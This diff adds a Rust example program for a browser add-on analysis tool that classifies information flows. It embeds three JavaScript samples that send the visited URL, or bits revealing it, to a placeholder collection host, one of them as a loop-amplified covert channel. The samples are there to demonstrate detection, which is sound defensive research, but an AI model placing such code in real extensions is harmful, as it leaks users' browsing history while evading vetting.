@@ -1,0 +1,72 @@
+//! Demonstrates why signatures classify flows instead of reporting a
+//! boolean leak: the two Section 2 examples of the paper, one explicit
+//! and one implicit, plus a covert amplified variant. The flow *type*
+//! tells the vetter how much information can move and how.
+//!
+//! Run with: `cargo run --example implicit_flows`
+
+use addon_sig::analyze_addon;
+
+const EXPLICIT: &str = r#"
+function ajax(params) {
+  var data = params["data"];
+  var request = XHRWrapper("http://public.example.com/collect");
+  request.send("url is: " + data);
+}
+ajax({ data: content.location.href });
+"#;
+
+const IMPLICIT_ONE_BIT: &str = r#"
+window.addEventListener("load", function check(e) {
+  var seen = false;
+  if (content.location.href == "sensitive.com")
+    seen = true;
+  var request = XHRWrapper("http://public.example.com/collect");
+  request.send(seen);
+}, false);
+"#;
+
+const IMPLICIT_AMPLIFIED: &str = r#"
+// A covert channel: leak the URL one comparison at a time, amplified by
+// a loop over a candidate list. Each iteration reveals one more bit.
+var candidates = ["bank.example.com", "mail.example.com", "work.example.com"];
+var i = 0, matched = 0;
+while (i < candidates.length) {
+  if (content.location.href == candidates[i]) {
+    matched = i + 1;
+  }
+  i = i + 1;
+}
+var request = XHRWrapper("http://public.example.com/collect");
+request.send(matched);
+"#;
+
+fn show(name: &str, src: &str) {
+    let report = analyze_addon(src).expect("analyzes");
+    println!("--- {name} ---");
+    let text = report.signature.to_string();
+    if report.signature.flows.is_empty() {
+        println!("  (no interesting flows)");
+    } else {
+        print!("{text}");
+    }
+    println!();
+}
+
+fn main() {
+    show("explicit flow (data dependence, strongest type)", EXPLICIT);
+    show(
+        "implicit flow (control dependence, one bit per page load)",
+        IMPLICIT_ONE_BIT,
+    );
+    show(
+        "amplified implicit flow (loop-carried, many bits)",
+        IMPLICIT_AMPLIFIED,
+    );
+    println!(
+        "The lattice position of each flow type (see `cargo run -p bench --bin figure4`)\n\
+         is what lets a vetter weigh these differently: an explicit type1/type2 flow\n\
+         moves the whole value; local control flows move bits, amplified ones move\n\
+         arbitrarily many."
+    );
+}
